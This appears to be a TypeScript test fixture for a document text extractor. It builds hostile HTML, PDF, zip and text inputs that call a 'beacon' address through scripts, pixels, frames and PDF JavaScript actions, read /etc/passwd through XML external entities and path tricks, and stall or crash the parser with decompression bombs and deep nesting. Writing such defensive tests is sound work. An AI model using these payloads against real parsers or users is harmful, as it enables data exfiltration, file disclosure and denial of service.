import { deflateRawSync, deflateSync } from 'node:zlib';
import { hostileDocuments } from './hostileDocuments.ts';
import { hostileMessages } from './hostileMessages.ts';
import { hostileTexts } from './hostileTexts.ts';
import { hostileWordFiles } from './hostileWordFiles.ts';
import { minimalPdf } from './minimalPdf.ts';

export interface HostileFile {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** The text that it must still give, or the code it must be refused with. */
  readonly expected: { readonly text: string } | { readonly code: string };
}

const words = 'The ministry said on Sunday that 48 people were still being held in the coastal district.';
const page = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><title>T</title>${head}</head><body>${body}</body></html>`;
const line = [{ x: 72, y: 700, text: 'Words on a page.' }];
const pdfWords = { text: 'Words on a page.' };

/** Files made to run code, to call home, to stall or to break whoever opens them. `beacon` is the address they call. */
export function hostileFiles(beacon: string): readonly HostileFile[] {
  return [
    ...hostilePages(beacon),
    ...stallingPages(),
    ...hostilePdfs(beacon),
    ...brokenPdfs(),
    ...hostileWordFiles(beacon),
    ...hostileTexts(beacon),
    ...hostileDocuments(beacon),
    ...hostileMessages(beacon),
    ...hostileBytes(),
  ];
}

function hostilePages(beacon: string): readonly HostileFile[] {
  const shown = { text: words };
  const bodies: Readonly<Record<string, string>> = {
    'script.html': `<script>process.exit(7); fetch('${beacon}')</script><script src="${beacon}/x.js"></script>`,
    'module-script.html': `<script type="module">import '${beacon}/m.js'</script>`,
    'handlers.html': `<img src=x onerror="process.exit(7)"><body onload="process.exit(7)"><svg onload="process.exit(7)"></svg>`,
    'tracking-pixel.html': `<img src="${beacon}/p.gif" width=1 height=1><img srcset="${beacon}/a 1x, ${beacon}/b 2x"><picture><source srcset="${beacon}/c"></picture>`,
    'frames.html': `<iframe src="${beacon}/f"></iframe><object data="${beacon}/o"></object><embed src="${beacon}/e"><frame src="${beacon}/g">`,
    'css-calls.html': `<style>@import url(${beacon}/s.css); p{background:url(${beacon}/b.png)}</style><p style="background:url(${beacon}/i)"></p>`,
    'media.html': `<video src="${beacon}/v" autoplay poster="${beacon}/p"></video><audio src="${beacon}/a" autoplay></audio>`,
    'javascript-links.html': `<a href="javascript:process.exit(7)"></a><form action="${beacon}"><input autofocus onfocus="process.exit(7)"></form>`,
    'svg-script.html': `<svg><script>process.exit(7)</script><foreignObject><iframe src="${beacon}"></iframe></foreignObject></svg>`,
    'custom-element.html': `<template shadowrootmode="open"><script>process.exit(7)</script></template><x-y is="z"></x-y>`,
    'noscript-pixel.html': `<noscript><img src="${beacon}/n.gif"></noscript>`,
    'prototype.html': `<div __proto__="x" constructor="y" id="__proto__" class="constructor"></div><form><input name="parentNode"><input name="firstChild"></form>`,
  };
  const heads: Readonly<Record<string, string>> = {
    'refresh.html': `<meta http-equiv="refresh" content="0;url=${beacon}"><base href="${beacon}/">`,
    'preload.html': `<link rel="stylesheet" href="${beacon}/s"><link rel="preload" href="${beacon}/p" as="script"><link rel="dns-prefetch" href="${beacon}">`,
    'linked-data-proto.html':
      '<script type="application/ld+json">{"__proto__":{"polluted":true},"@type":"NewsArticle","headline":{"toString":"x"},"author":[[[["x"]]]]}</script>',
    'linked-data-deep.html': `<script type="application/ld+json">${'['.repeat(50_000)}${']'.repeat(50_000)}</script>`,
    'hostile-address.html':
      '<link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="file:///etc/passwd">',
  };
  return [
    ...Object.entries(bodies).map(([name, body]) => ({
      name,
      content: page(`${body}<p>${words}</p>`),
      expected: shown,
    })),
    ...Object.entries(heads).map(([name, head]) => ({ name, content: page(`<p>${words}</p>`, head), expected: shown })),
  ];
}

function stallingPages(): readonly HostileFile[] {
  const deep = { code: 'file-broken' };
  const shown = { text: words };
  return [
    { name: 'deep-div.html', content: page('<div>'.repeat(100_000) + words), expected: deep },
    { name: 'deep-lists.html', content: page('<ul><li>'.repeat(50_000) + words), expected: deep },
    { name: 'deep-unclosed-bold.html', content: page('<b>'.repeat(100_000) + words), expected: deep },
    { name: 'deep-below-limit.html', content: page(`${'<section>'.repeat(1_900)}<p>${words}</p>`), expected: shown },
    { name: 'unclosed-paragraphs.html', content: page(`${'<p>'.repeat(100_000)}${words}`), expected: shown },
    {
      name: 'huge-attribute.html',
      content: page(`<a title="${'x'.repeat(5_000_000)}"></a><p>${words}</p>`),
      expected: shown,
    },
    {
      name: 'many-attributes.html',
      content: page(`<a ${Array.from({ length: 20_000 }, (_, index) => `a${index}=1`).join(' ')}></a><p>${words}</p>`),
      expected: shown,
    },
    { name: 'open-quotes.html', content: page(`<p>${words}</p>${'<a title="'.repeat(50_000)}`), expected: shown },
    { name: 'open-comments.html', content: page(`<p>${words}</p>${'<!--'.repeat(200_000)}`), expected: shown },
    {
      name: 'many-entities.html',
      content: page(`<p>${words}</p><!-- --><p hidden>${'&amp;'.repeat(200_000)}</p>`),
      expected: shown,
    },
    {
      name: 'entity-bomb.xhtml',
      content: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, index) => `<!ENTITY a${index} "${`&a${index - 1};`.repeat(10)}">`).join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]><html lang="en"><body><p>${words}</p><p hidden>&a29;&x;</p></body></html>`,
      expected: shown,
    },
    { name: 'nested-tables.html', content: page(`${'<table><tr><td>'.repeat(1_500)}${words}`), expected: shown },
  ];
}

function hostilePdfs(beacon: string): readonly HostileFile[] {
  const action = `<< /S /JavaScript /JS (app.launchURL\\("${beacon}"\\); this.submitForm\\("${beacon}"\\);) >>`;
  const withCatalog = (catalog: string) => minimalPdf({ pages: [{ lines: line }], catalog });
  return [
    {
      name: 'javascript.pdf',
      content: withCatalog(`/OpenAction ${action} /Names << /JavaScript << /Names [(a) ${action}] >> >>`),
      expected: pdfWords,
    },
    {
      name: 'open-uri.pdf',
      content: withCatalog(`/OpenAction << /S /URI /URI (${beacon}) >> /AA << /WC ${action} >>`),
      expected: pdfWords,
    },
    { name: 'launch.pdf', content: withCatalog('/OpenAction << /S /Launch /F (/bin/true) >>'), expected: pdfWords },
    {
      name: 'remote-goto.pdf',
      content: withCatalog(`/OpenAction << /S /GoToR /F << /FS /URL /F (${beacon}) >> /D [0 /Fit] >>`),
      expected: pdfWords,
    },
    {
      name: 'annotation.pdf',
      content: minimalPdf({
        pages: [
          {
            lines: line,
            entries: `/Annots [<< /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${beacon}) >> >>]`,
          },
        ],
      }),
      expected: pdfWords,
    },
    {
      name: 'form.pdf',
      content: withCatalog(`/AcroForm << /XFA (<x:script>${beacon}</x:script>) /Fields [] >>`),
      expected: pdfWords,
    },
    {
      name: 'remote-stream.pdf',
      content: minimalPdf({ pages: [{ lines: line, entries: `/Metadata << /FS /URL /F (${beacon}) >>` }] }),
      expected: pdfWords,
    },
    {
      name: 'cmap-path.pdf',
      content: minimalPdf({
        fonts:
          '/C1 << /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /..#2f..#2f..#2fetc#2fpasswd /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /X /CIDSystemInfo << /Registry (../../etc) /Ordering (passwd) /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /X /Flags 6 >> >>] >>',
        pages: [{ lines: line, content: 'BT /C1 12 Tf 72 600 Td <0041> Tj ET' }],
      }),
      expected: pdfWords,
    },
    {
      name: 'calculator-function.pdf',
      content: minimalPdf({
        pages: [{ lines: line, content: '/Pattern cs /P1 scn 0 0 10 10 re f' }],
        fonts:
          '/F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); process.exit\\(7\\); //)] >>',
      }),
      expected: pdfWords,
    },
  ];
}

function brokenPdfs(): readonly HostileFile[] {
  const whole = Buffer.from(minimalPdf({ pages: [{ lines: line }] })).toString('latin1');
  const latin1 = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'));
  const bomb = deflateSync(Buffer.alloc(30_000_000, ' '));
  return [
    { name: 'header-only.pdf', content: '%PDF-1.7\n', expected: { code: 'file-broken' } },
    { name: 'truncated.pdf', content: latin1(whole.slice(0, 300)), expected: { code: 'file-broken' } },
    {
      name: 'page-loop.pdf',
      content: latin1(whole.replace('/Kids [4 0 R]', '/Kids [2 0 R]')),
      expected: { code: 'file-broken' },
    },
    { name: 'page-count-lie.pdf', content: latin1(whole.replace('/Count 1', '/Count 99999999')), expected: pdfWords },
    { name: 'negative-length.pdf', content: latin1(whole.replace(/\/Length \d+/, '/Length -1')), expected: pdfWords },
    { name: 'xref-loop.pdf', content: latin1(whole.replace('/Info 3 0 R', '/Info 3 0 R /Prev 9')), expected: pdfWords },
    {
      name: 'deep-arrays.pdf',
      content: latin1(whole.replace('/Type /Catalog', `/Type /Catalog /X ${'['.repeat(5_000)}${']'.repeat(5_000)}`)),
      expected: pdfWords,
    },
    {
      name: 'flate-bomb.pdf',
      content: latin1(
        whole.replace(
          /<< \/Length \d+ >>\nstream\n[\s\S]*?\nendstream/,
          () => `<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n${bomb.toString('latin1')}\nendstream`,
        ),
      ),
      expected: { text: '' },
    },
    {
      name: 'endless-text.pdf',
      content: minimalPdf({
        pages: [{ lines: line, content: `BT /F1 1 Tf 72 600 Td ${'(x) Tj '.repeat(20_000)} ET` }],
      }),
      expected: pdfWords,
    },
  ];
}

function hostileBytes(): readonly HostileFile[] {
  const zip = (name: string, data: Buffer) => {
    const packed = deflateRawSync(data);
    const header = Buffer.alloc(30);
    header.write('PK\x03\x04', 'latin1');
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(packed.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(name.length, 26);
    return Buffer.concat([header, Buffer.from(name), packed]);
  };
  const unsupported = { code: 'file-format-unsupported' };
  return [
    { name: 'zip-bomb.pdf', content: zip('a.txt', Buffer.alloc(50_000_000)), expected: { code: 'file-broken' } },
    {
      name: 'no-directory.docx',
      content: zip('word/document.xml', Buffer.from('<w:attachedTemplate r:id="rId1"/>')),
      expected: { code: 'file-broken' },
    },
    { name: 'zero.txt', content: '', expected: { code: 'file-empty' } },
    { name: 'all-zero.txt', content: new Uint8Array(100_000), expected: unsupported },
    { name: 'some-zeros.txt', content: `${words}\0\0${' '.repeat(200)}`, expected: { text: words } },
    {
      name: 'program.html',
      content: Uint8Array.from(Buffer.from(`\x7fELF${'\0\x01'.repeat(500)}`, 'latin1')),
      expected: unsupported,
    },
    { name: 'noncharacters.txt', content: `${words}\ufffe\uffff\u0007\u001b[31m\u202e`, expected: { text: words } },
    {
      name: 'half-characters.txt',
      content: Uint8Array.from(Buffer.concat([Buffer.from(words), Buffer.from([0xed, 0xa0, 0x80, 0xc0, 0x80, 0xff])])),
      expected: { text: words },
    },
    { name: '../../outside<script>.txt', content: words, expected: { text: words } },
  ];
}
